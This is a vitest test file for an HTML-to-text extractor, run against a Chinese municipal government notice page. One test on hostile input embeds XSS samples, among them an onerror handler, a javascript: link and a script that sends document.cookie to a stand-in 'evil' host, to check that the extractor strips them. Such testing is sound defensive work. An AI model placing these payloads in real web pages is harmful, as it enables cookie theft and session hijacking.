import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cleanText } from '../../../src/extract/clean';
import { decodeBytes } from '../../../src/extract/decode';
import { htmlToText, looksLikeHtml } from '../../../src/extract/html';
import { encodeGb18030 } from '../../fixtures/decode/gb18030-encode';
import { seed } from './seeds';

const page = readFileSync(join(__dirname, '../../fixtures/decode/gov-page.html'), 'utf8');
const lines = (text: string) => text.split('\n').map((l) => l.trim()).filter(Boolean);

describe('looksLikeHtml', () => {
  it('trusts .htm/.html extensions', () => {
    expect(looksLikeHtml('a/b/notice.HTM', 'plain words')).toBe(true);
    expect(looksLikeHtml('notice.shtml', '')).toBe(true);
  });
  it('sniffs documents that start like HTML', () => {
    expect(looksLikeHtml('saved.txt', page)).toBe(true);
    expect(looksLikeHtml('x.txt', '\uFEFF  <!-- saved --><html><body>正文</body></html>')).toBe(true);
    expect(looksLikeHtml('x', '<?xml version="1.0"?>\n<!DOCTYPE html><html>')).toBe(true);
  });
  it('does not take text with a stray tag for HTML', () => {
    expect(looksLikeHtml('001.txt', seed('001').text)).toBe(false);
    expect(looksLikeHtml('notes.md', '# 标题\n\n<p>段落</p>')).toBe(false);
  });
});

describe('htmlToText on a government page', () => {
  const text = htmlToText(page);

  it('puts the <title> first', () => {
    expect(text.split('\n')[0]).toBe(
      '鄂尔多斯市委办公室市人民政府办公室关于印发《加快推进鄂尔多斯教育现代化工作方案(2019—2022年)》的通知_鄂尔多斯市人民政府',
    );
  });

  it('keeps the document text, one block a line, entities decoded', () => {
    const ls = lines(text);
    for (const l of ['鄂党办发〔2019〕12号', '各旗区党委、人民政府，市直各部门及各人民团体：', '中共鄂尔多斯市委员会办公室', '鄂尔多斯市人民政府办公室', '2019年12月13日'])
      expect(ls).toContain(l);
    expect(text).toContain('　　《加快推进鄂尔多斯教育现代化工作方案(2019—2022年)》已经市委、市政府同意');
    expect(text).toContain('1.完成准格尔旗特殊教育学校建设&投入使用。详见附件');
  });

  it('turns table rows into lines and cells into tabs', () => {
    expect(text).toContain('成文日期：\t2019年12月13日\t发布日期：\t2020年03月03日');
  });

  it('drops scripts, styles, hidden and embedded content, forms and navigation', () => {
    for (const gone of ['alert', 'javascript', 'onerror', 'cookie', '_hmt', '广告', 'background', '样式文字', '隐藏的关键词', '不支持脚本', '视频', 'SVG文字', '图标标题', '请输入关键字', '搜索', '全部', '政务服务', '相关推荐', 'ICP备', '分享到', '长者模式', 'logo'])
      expect(text).not.toContain(gone);
  });

  it('after cleanText the breadcrumb and widgets are gone and the metadata stays', () => {
    const cleaned = cleanText(text);
    expect(cleaned).not.toMatch(/当前位置|字号|【打印】/);
    expect(cleaned).toContain('发布时间:2020-03-03 15:00:00  来源:市政府办');
  });
});

describe('htmlToText on hostile and malformed input', () => {
  it('never outputs attribute values or script bodies', () => {
    const html = `<p>正文<img src=x onerror=alert(1)><a href="javascript:alert(2)" onclick="steal()">链接</a></p>
<script type="text/javascript">document.location='http://evil/?c='+document.cookie</script>
<SCRIPT>alert(3)</SCRIPT><style>@import 'x';</style><object data="x.swf">插件</object>
<div style="DISPLAY: NONE">隐藏</div><p hidden>也隐藏</p><template><p>模板</p></template>`;
    const text = htmlToText(html);
    expect(text).not.toMatch(/alert|evil|cookie|steal|import|插件|隐藏|模板|onerror|javascript/);
    expect(text).toContain('正文链接');
  });

  it('copes with unclosed and misnested tags', () => {
    const text = htmlToText('<div><p>第一段<p>第二段<b>加粗<i>斜体</b>后文</div><li>条目一<li>条目二<script>alert(1)');
    expect(lines(text)).toEqual(['第一段', '第二段加粗斜体后文', '条目一', '条目二']);
  });

  it('keeps <pre> whitespace and collapses ordinary whitespace', () => {
    expect(htmlToText('<p>一\n   二\t三</p><pre>  甲\n  乙</pre>')).toBe('一 二 三\n\n  甲\n  乙');
  });

  it('converts a GBK-encoded page end to end', () => {
    const bytes = encodeGb18030(page.replace('charset="utf-8"', 'charset="gbk"'));
    const decoded = decodeBytes(bytes);
    expect(decoded.encoding).toBe('gb18030');
    expect(htmlToText(decoded.text)).toBe(text0());
  });

  it('handles a 2 MB single-line page quickly', () => {
    const html = `<html><body><p>${'推进教育现代化&nbsp;<b>加快</b>建设教育强市。'.repeat(70_000)}</p></body></html>`;
    expect(html.length).toBeGreaterThan(2_000_000);
    const t0 = performance.now();
    const text = htmlToText(html);
    console.log(`took ${(performance.now() - t0).toFixed(0)} ms (timing is printed, never asserted: machines are noisy)`);
    expect(text.startsWith('推进教育现代化\u00a0加快建设教育强市。推进')).toBe(true);
    expect(text).not.toContain('\n');
  });
});

function text0(): string {
  return htmlToText(page);
}
